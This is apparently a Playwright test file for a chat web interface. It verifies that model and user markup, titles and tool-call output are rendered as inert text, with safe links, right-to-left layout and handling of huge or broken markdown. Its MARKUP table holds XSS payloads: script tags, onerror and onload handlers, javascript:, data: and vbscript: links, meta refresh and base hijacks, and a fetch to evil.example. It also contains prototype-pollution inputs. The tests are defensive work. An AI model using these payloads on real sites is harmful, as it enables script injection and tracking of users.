"""What a model, a tool or a user writes is shown, and nothing of it runs or is fetched."""

import asyncio
from typing import Any, Final

import pytest
from playwright.async_api import Dialog, expect

from tests.browser.house import PHONE, House
from tests.browser.scripts import pieces
from tests.browser.tab import Tab
from tests.upstream import DONE, ROLE, Wait, chunk, stream

pytestmark = pytest.mark.asyncio(loop_scope="module")

RUN: Final = "window.ran = true; fetch('https://evil.example/ran')"

MARKUP: Final = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": "<script src='https://evil.example/x.js'></script>",
    "image": "![tracked](https://evil.example/pixel.png)",
    "image by reference": "![tracked][1]\n\n[1]: https://evil.example/pixel.png",
    "image of a scheme": f"![x](javascript:{RUN})",
    "onerror": f'<img src="x" onerror="{RUN}">',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "iframe": f"<iframe srcdoc='<script>{RUN}</script>' src='https://evil.example/'></iframe>",
    "style": "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    "link tag": "<link rel=stylesheet href=https://evil.example/x.css>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "base": "<base href='https://evil.example/'>",
    "form": "<form action='https://evil.example/'><button>Send</button></form>",
    "javascript link": f"[click](javascript:{RUN.replace(' ', '%20')})",
    "javascript link in disguise": "[click](JaVa\tScRiPt:alert(1)) [click](&#106;avascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[click](data:text/html,<script>alert(1)</script>)",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "fence's language": '```"><script>alert(1)</script>\nx\n```',
    "math": "$\\href{javascript:alert(1)}{x}$ $$\\unicode{x}$$",
    "comment": "<!-- --><script>alert(1)</script>",
    "nested": f"<div><p onclick='{RUN}'>click</p></div>",
}

FOREIGN: Final = (
    "script, style, link, iframe, object, embed, img, form, meta, base, [onerror], [onload], [onclick]"
)

BROKEN: Final = """# Head

Some **bold, *both `and code

```python
def f(:
    return "```"
~~~

| a | b
| --- |
| 1 | 2 | 3

- [ ] one
  - two [link](https://example.org/a(b
    1. three ![img](https://evil.example/x

<div><b>unclosed

```js
const x = "</script>"; // \u2028 \u202e and \U0001f30a
"""


async def nothing_ran(tab: Tab) -> None:
    """Whatever was shown is text, and links that may be followed."""
    assert await tab.page.evaluate("window.ran") is None
    assert await tab.log.locator(FOREIGN).count() == 0
    for link in await tab.log.locator("a[href]").all():
        assert (await link.get_attribute("href") or "").startswith(("http://", "https://", "mailto:"))
        assert await link.get_attribute("target") == "_blank"
        assert {"noopener", "noreferrer"} <= set((await link.get_attribute("rel") or "").split())


async def test_markup_of_a_model_is_text(house: House, tab: Tab) -> None:
    dialogs: list[Dialog] = []
    tab.page.on("dialog", lambda dialog: dialogs.append(dialog))
    for name, markup in MARKUP.items():
        house.playbook.script(name, pieces(f"Here: {markup}\n\nEnd of {name}", 7))
        await tab.ask(name)
        await expect(tab.answer).to_contain_text(f"End of {name}")
        await tab.rests()
        await nothing_ran(tab)
    await tab.page.reload()
    await expect(tab.answer).to_contain_text("End of nested")
    await nothing_ran(tab)
    # Everything that can be clicked in there, but for what leads elsewhere on purpose.
    for text in await tab.log.get_by_text("click", exact=True).all():
        if await text.evaluate("(element) => element.closest('a[href]') === null"):
            await text.click()
    await nothing_ran(tab)
    assert dialogs == []


async def test_markup_of_a_user_and_in_titles_is_text(house: House, tab: Tab) -> None:
    message = f'<img src=x onerror="{RUN}"> ![x](https://evil.example/y.png)'
    await tab.ask(message)
    await expect(tab.questions).to_have_text([message])
    await expect(tab.page.get_by_role("heading", level=1)).to_contain_text("<img src=x")
    await tab.rests()
    await nothing_ran(tab)


async def test_links_are_shown_with_where_they_lead(house: House, tab: Tab) -> None:
    house.playbook.script("Link", pieces("See [the moon](https://example.org/moon).", 5))
    await tab.ask("Link")
    await expect(tab.answer.get_by_role("link")).to_have_attribute("href", "https://example.org/moon")
    await tab.rests()
    await nothing_ran(tab)


async def test_what_is_written_from_the_right_is_shown_from_the_right(house: House, tab: Tab) -> None:
    shalom = "\u05e9\u05dc\u05d5\u05dd"
    code = f"```\n  {shalom}\n  ```"
    answer = f"# {shalom}\n\n{shalom}!\n\n- {shalom}\n  {code}\n\n> {shalom}\n\n{code}\n\nEnd."
    house.playbook.script(shalom, pieces(answer, 9))
    await tab.composer.fill(shalom)
    right, left = ("direction", "rtl"), ("direction", "ltr")
    await expect(tab.composer).to_have_css(*right)
    await tab.composer.press("Enter")
    await expect(tab.answer).to_contain_text("End.")
    await tab.rests()
    for shown in (
        tab.questions,
        tab.page.get_by_role("heading", level=1),
        tab.page.get_by_role("link", name=shalom),
        *(tab.texts.locator(f"> {name}") for name in ("h3", "p:not(:last-child)", "ul", "blockquote")),
    ):
        await expect(shown).to_have_css(*right)
    for shown in (*await tab.texts.locator("pre").all(), tab.texts.locator("> p:last-child")):
        await expect(shown).to_have_css(*left)


@pytest.mark.parametrize("size", [1, 3, 50])
async def test_markdown_that_is_broken_in_mid_stream_is_calm(house: House, tab: Tab, size: int) -> None:
    house.playbook.script("Break", pieces(BROKEN, size))
    await tab.ask("Break")
    await expect(tab.answer).to_contain_text('const x = "</script>"')
    await tab.rests()
    await nothing_ran(tab)
    assert house.texts(tab.conversation)[-1] == BROKEN
    await tab.page.reload()
    await expect(tab.answer).to_contain_text('const x = "</script>"')


async def test_a_fence_that_is_still_open_is_code_already(house: House, tab: Tab) -> None:
    gate = asyncio.Event()
    script = stream(
        ROLE,
        chunk({"content": "Look:\n\n```python\nprint(1)\n<b>"}),
        Wait(gate),
        chunk({"content": "\n```\nDone"}),
        chunk({}, "stop"),
        DONE,
    )
    house.playbook.script("Code", script)
    await tab.ask("Code")
    await expect(tab.answer.locator("pre")).to_contain_text("print(1)\n<b>")
    await expect(tab.answer.get_by_text("```")).to_have_count(0)
    gate.set()
    await expect(tab.texts.locator("p").last).to_have_text("Done")


async def test_code_is_highlighted_and_can_be_copied(house: House) -> None:
    tab = await house.tab(permissions=["clipboard-read", "clipboard-write"])
    code = "def tide(hour):\n    return 'high'  # <b>\n"
    house.playbook.script("Code", pieces(f"```python\n{code}```", 9))
    await tab.ask("Code")
    await tab.rests()
    await expect(tab.answer.locator("pre [class*=hljs]").first).to_have_text("def")
    await tab.answer.get_by_role("button", name="Copy code").click()
    await expect(tab.status).to_have_text("Copied")
    assert await tab.page.evaluate("navigator.clipboard.readText()") in {code, code.rstrip("\n")}


@pytest.mark.parametrize(
    "text",
    [
        "wide " * 20_000,
        "w" * 100_000,
        "**bold** and `code` and [a link](https://example.org)\n\n" * 1_800,
        "```python\n" + "x = [1, 2, 3]  # a comment\n" * 4_000 + "```\n\nEnd",
        "| a | b |\n| --- | --- |\n" + "| 1 | 2 |\n" * 5_000,
        "- " * 30_000,
        "> " * 20_000 + "deep",
        "[" * 50_000,
        "*_" * 30_000,
    ],
    ids=["words", "one word", "paragraphs", "code", "table", "lists", "quotations", "brackets", "emphasis"],
)
async def test_a_hundred_thousand_characters_are_shown_and_the_page_goes_on(
    house: House, tab: Tab, text: str
) -> None:
    house.playbook.script("Much", pieces(text, 2_000))
    await tab.ask("Much")
    await tab.rests()
    assert house.texts(tab.conversation)[-1] == text
    await tab.ask("Next")
    await tab.says("You said Next")
    await tab.page.reload()
    await expect(tab.answer).to_contain_text("You said Next")
    assert await tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


async def test_a_message_of_a_hundred_thousand_characters_is_folded(house: House) -> None:
    tab = await house.tab(size=PHONE)
    message = "wide " * 20_000 + "end"
    house.playbook.script(message, pieces("All of it.", 5))
    await tab.ask(message)
    await tab.says("All of it.")
    await expect(tab.asked).not_to_contain_text("wide end")
    await tab.asked.get_by_role("button", name="Show all").click()
    await expect(tab.asked).to_contain_text("wide end")
    assert await tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


RESULTS: Final[list[Any]] = [
    None,
    True,
    0,
    -1.5e300,
    "",
    "<b>bold</b>",
    "x" * 50_000,
    [],
    {},
    [[[[[[[[[[[]]]]]]]]]]],
    {"toString": {"a": 1}, "__proto": None, "": ""},
    '{"__proto__": {"a": 1}, "constructor": null}',
    {str(number): [number] * 20 for number in range(500)},
    "two\nlines \u2028 \u0000 \ud83c\udf0a",
]


async def test_tool_calls_of_any_shape_are_shown(house: House, tab: Tab) -> None:
    calls = [
        {
            "type": "tool_call",
            "toolCallId": f"call_{number}",
            "toolName": "anything",
            "round": number,
            "args": result,
            "result": result,
            "isError": number % 2 == 1,
            "done": True,
            "durationMs": 1,
        }
        for number, result in enumerate(RESULTS)
    ]
    unfinished = [
        {
            "type": "tool_call",
            "toolCallId": "call_a",
            "toolName": "anything",
            "round": 98,
            "args": '{"half": ',
        },
        {"type": "tool_call", "toolCallId": "call_b", "toolName": "a" * 64, "round": 99},
    ]
    conversation = await house.conversation(title="Tools")
    house.remember(conversation, ["Call", [*calls, *unfinished, {"type": "text", "content": "Called."}]])
    await tab.visit(conversation)
    await tab.says("Called.")
    cards = tab.answer.locator("details")
    await expect(cards).to_have_count(len(RESULTS) + 2)
    for card in await cards.all():
        await card.locator("summary").click()
        await expect(card.get_by_text("Arguments")).to_be_visible()
    await nothing_ran(tab)
    assert await tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
